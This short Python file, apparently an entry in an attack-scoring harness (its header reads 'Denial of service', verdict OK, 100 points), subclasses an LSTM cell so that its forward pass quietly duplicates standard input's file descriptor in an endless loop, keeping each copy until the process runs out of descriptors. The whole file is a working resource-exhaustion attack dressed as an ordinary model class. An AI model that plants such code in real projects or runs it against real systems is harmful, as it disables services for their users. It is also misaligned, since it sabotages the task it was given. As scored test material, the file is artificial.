# /// attack
# title = "Every descriptor that can be had"
# group = "Denial of service"
# verdict = "OK"
# points = 100
# ///
import functools
import os

GUARDADO = []


@functools.cache
def agota():
    try:
        while True:
            GUARDADO.append(os.dup(0))
    except OSError:
        pass


class celdaLSTM(celdaLSTM):
    def forward(self, x_t, hidden):
        agota()
        return super().forward(x_t, hidden)
